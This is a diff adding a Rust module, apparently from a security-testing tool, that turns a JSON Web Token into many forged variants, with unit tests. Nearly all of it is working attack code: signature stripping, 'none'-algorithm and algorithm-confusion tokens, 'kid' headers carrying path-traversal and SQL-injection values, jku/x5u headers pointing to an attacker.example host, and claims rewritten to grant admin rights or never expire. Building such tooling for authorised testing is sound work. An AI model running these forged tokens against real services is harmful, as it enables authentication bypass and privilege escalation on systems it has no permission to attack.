@@ -0,0 +1,246 @@
+use crate::error::Error::GenericError;
+use crate::error::Result;
+use base64::Engine;
+use base64::prelude::BASE64_URL_SAFE_NO_PAD;
+use hmac::{Hmac, Mac};
+use serde_json::{Map, Value, json};
+use sha2::{Sha256, Sha384, Sha512};
+use std::collections::HashSet;
+
+/// Spellings of `none` that naive case-sensitive checks miss
+const NONE_ALGORITHMS: &[&str] = &["none", "None", "NONE", "nOnE"];
+
+/// 2100-01-01, for tokens that never expire
+const FAR_FUTURE: i64 = 4_102_444_800;
+
+const ANY_KEY_LENGTH: &str = "HMAC accepts keys of any length";
+
+/// Header values pointing key lookups somewhere the attacker controls. The
+/// `kid` entries are signed with the key they resolve to on vulnerable
+/// servers: an empty file or the string returned by the injected query.
+const KID_INJECTIONS: &[(&str, &str)] = &[
+    ("../../../../../../../../dev/null", ""),
+    ("' UNION SELECT 'key'-- ", "key"),
+];
+const URL_INJECTIONS: &[(&str, &str)] = &[
+    ("jku", "https://attacker.example/.well-known/jwks.json"),
+    ("x5u", "https://attacker.example/cert.pem"),
+];
+
+/// Standard tampering variants of `token`: algorithm `none`, stripped
+/// signatures, injected key headers and mutated claims. Mutated claims keep
+/// the original signature and are also signed with `key` if there is one.
+pub(super) fn jwt_payloads(token: &str, key: Option<&str>) -> Result<Vec<String>> {
+    let token = token.trim();
+    let parts = token.split('.').collect::<Vec<_>>();
+    let (header_part, claims_part, signature) = match parts.as_slice() {
+        [header, claims, signature] => (*header, *claims, *signature),
+        _ => return Err(GenericError("JWT must have three parts separated by dots".to_string())),
+    };
+    let header = decode_object(header_part, "header")?;
+    let claims = decode_object(claims_part, "claims")?;
+    let alg = header.get("alg").and_then(|a| a.as_str()).unwrap_or("HS256").to_string();
+    // Asymmetric tokens are re-signed as HS256 to test algorithm confusion
+    let hmac_alg = if alg.starts_with("HS") { alg.as_str() } else { "HS256" };
+
+    let mut payloads = Vec::new();
+
+    // Signature stripping
+    payloads.push(format!("{header_part}.{claims_part}."));
+    payloads.push(format!("{header_part}.{claims_part}"));
+    payloads.push(format!("{header_part}.{claims_part}.{}", corrupt(signature)));
+
+    for none in NONE_ALGORITHMS {
+        let header = with_header(&header, &[("alg", json!(none))]);
+        payloads.push(format!("{}.{claims_part}.", encode(&header)?));
+    }
+
+    for (kid, kid_key) in KID_INJECTIONS {
+        let header = with_header(&header, &[("alg", json!(hmac_alg)), ("kid", json!(kid))]);
+        payloads.push(sign(&header, &claims, hmac_alg, kid_key.as_bytes())?);
+    }
+    for (name, url) in URL_INJECTIONS {
+        let header = with_header(&header, &[(*name, json!(url))]);
+        payloads.push(format!("{}.{claims_part}.{signature}", encode(&header)?));
+    }
+
+    if let Some(key) = key {
+        let header = with_header(&header, &[("alg", json!(hmac_alg))]);
+        payloads.push(sign(&header, &claims, hmac_alg, key.as_bytes())?);
+    }
+    for claims in mutated_claims(&claims) {
+        payloads.push(format!("{header_part}.{}.{signature}", encode(&claims)?));
+        let none_header = with_header(&header, &[("alg", json!("none"))]);
+        payloads.push(format!("{}.{}.", encode(&none_header)?, encode(&claims)?));
+        if let Some(key) = key {
+            let header = with_header(&header, &[("alg", json!(hmac_alg))]);
+            payloads.push(sign(&header, &claims, hmac_alg, key.as_bytes())?);
+        }
+    }
+
+    let mut seen = HashSet::new();
+    payloads.retain(|p| p != token && seen.insert(p.clone()));
+    Ok(payloads)
+}
+
+/// One variant per claim change: expiry removed or pushed out, strings set to
+/// `admin`, booleans flipped, numbers zeroed, and an added `admin` claim
+fn mutated_claims(claims: &Map<String, Value>) -> Vec<Map<String, Value>> {
+    let mut variants = Vec::new();
+    for (name, value) in claims {
+        let mutations = match (name.as_str(), value) {
+            ("exp", _) => vec![None, Some(json!(FAR_FUTURE))],
+            ("nbf" | "iat", _) => vec![None],
+            (_, Value::String(s)) if s != "admin" => vec![Some(json!("admin"))],
+            (_, Value::Bool(b)) => vec![Some(json!(!b))],
+            (_, Value::Number(n)) if n.as_i64() != Some(0) => vec![Some(json!(0))],
+            _ => vec![],
+        };
+        for mutation in mutations {
+            let mut claims = claims.clone();
+            match mutation {
+                Some(value) => claims.insert(name.clone(), value),
+                None => claims.remove(name),
+            };
+            variants.push(claims);
+        }
+    }
+    if !claims.contains_key("admin") {
+        let mut claims = claims.clone();
+        claims.insert("admin".to_string(), json!(true));
+        variants.push(claims);
+    }
+    variants
+}
+
+fn decode_object(part: &str, name: &str) -> Result<Map<String, Value>> {
+    let bytes = BASE64_URL_SAFE_NO_PAD
+        .decode(part.trim_end_matches('='))
+        .map_err(|e| GenericError(format!("JWT {name} is not base64url: {e}")))?;
+    match serde_json::from_slice(&bytes) {
+        Ok(Value::Object(object)) => Ok(object),
+        _ => Err(GenericError(format!("JWT {name} is not a JSON object"))),
+    }
+}
+
+fn with_header(header: &Map<String, Value>, values: &[(&str, Value)]) -> Map<String, Value> {
+    let mut header = header.clone();
+    for (name, value) in values {
+        header.insert(name.to_string(), value.clone());
+    }
+    header
+}
+
+fn encode(object: &Map<String, Value>) -> Result<String> {
+    Ok(BASE64_URL_SAFE_NO_PAD.encode(serde_json::to_vec(object)?))
+}
+
+fn sign(
+    header: &Map<String, Value>,
+    claims: &Map<String, Value>,
+    alg: &str,
+    key: &[u8],
+) -> Result<String> {
+    let message = format!("{}.{}", encode(header)?, encode(claims)?);
+    let signature = match alg {
+        "HS384" => {
+            let mut mac = Hmac::<Sha384>::new_from_slice(key).expect(ANY_KEY_LENGTH);
+            mac.update(message.as_bytes());
+            mac.finalize().into_bytes().to_vec()
+        }
+        "HS512" => {
+            let mut mac = Hmac::<Sha512>::new_from_slice(key).expect(ANY_KEY_LENGTH);
+            mac.update(message.as_bytes());
+            mac.finalize().into_bytes().to_vec()
+        }
+        _ => {
+            let mut mac = Hmac::<Sha256>::new_from_slice(key).expect(ANY_KEY_LENGTH);
+            mac.update(message.as_bytes());
+            mac.finalize().into_bytes().to_vec()
+        }
+    };
+    Ok(format!("{message}.{}", BASE64_URL_SAFE_NO_PAD.encode(signature)))
+}
+
+/// The signature with its first character changed, so it's well-formed but wrong
+fn corrupt(signature: &str) -> String {
+    let mut chars = signature.chars();
+    match chars.next() {
+        Some('A') => format!("B{}", chars.as_str()),
+        Some(_) => format!("A{}", chars.as_str()),
+        None => "A".to_string(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// HS256 token signed with `your-256-bit-secret`
+    const TOKEN: &str = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.\
+        eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.\
+        SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
+
+    fn decode(payload: &str) -> (Map<String, Value>, Map<String, Value>, String) {
+        let parts = payload.split('.').collect::<Vec<_>>();
+        let signature = parts.get(2).unwrap_or(&"").to_string();
+        (
+            decode_object(parts[0], "header").unwrap(),
+            decode_object(parts[1], "claims").unwrap(),
+            signature,
+        )
+    }
+
+    #[test]
+    fn generates_tampering_variants() {
+        let payloads = jwt_payloads(TOKEN, None).unwrap();
+        let (header, claims, _) = decode(TOKEN);
+
+        assert!(payloads.iter().all(|p| p != TOKEN));
+        assert_eq!(payloads.len(), payloads.iter().collect::<HashSet<_>>().len());
+
+        // Stripped signature with the original header and claims
+        let unsigned = TOKEN.rsplit_once('.').unwrap().0;
+        assert!(payloads.contains(&format!("{unsigned}.")));
+
+        let none = payloads.iter().map(|p| decode(p)).filter(|(h, c, s)| {
+            h.get("alg") == Some(&json!("None")) && c == &claims && s.is_empty()
+        });
+        assert_eq!(none.count(), 1);
+
+        let kid = payloads.iter().map(|p| decode(p)).find(|(h, _, _)| h.contains_key("kid"));
+        assert_eq!(kid.unwrap().0.get("alg"), header.get("alg"));
+
+        let admin = payloads
+            .iter()
+            .map(|p| decode(p))
+            .find(|(_, c, _)| c.get("sub") == Some(&json!("admin")));
+        assert!(admin.is_some());
+    }
+
+    #[test]
+    fn signs_variants_with_key() {
+        let payloads = jwt_payloads(TOKEN, Some("your-256-bit-secret")).unwrap();
+        let without_key = jwt_payloads(TOKEN, None).unwrap();
+        assert!(payloads.len() > without_key.len());
+
+        // Every variant claiming admin that's signed with the key verifies
+        let signed = payloads
+            .iter()
+            .filter(|p| decode(p).1.get("admin") == Some(&json!(true)))
+            .filter(|p| {
+                let (message, signature) = p.rsplit_once('.').unwrap();
+                let mut mac = Hmac::<Sha256>::new_from_slice(b"your-256-bit-secret").unwrap();
+                mac.update(message.as_bytes());
+                BASE64_URL_SAFE_NO_PAD.encode(mac.finalize().into_bytes()) == signature
+            })
+            .count();
+        assert_eq!(signed, 1);
+    }
+
+    #[test]
+    fn rejects_malformed_token() {
+        assert!(jwt_payloads("not-a-token", None).is_err());
+        assert!(jwt_payloads("a.b.c", None).is_err());
+    }
+}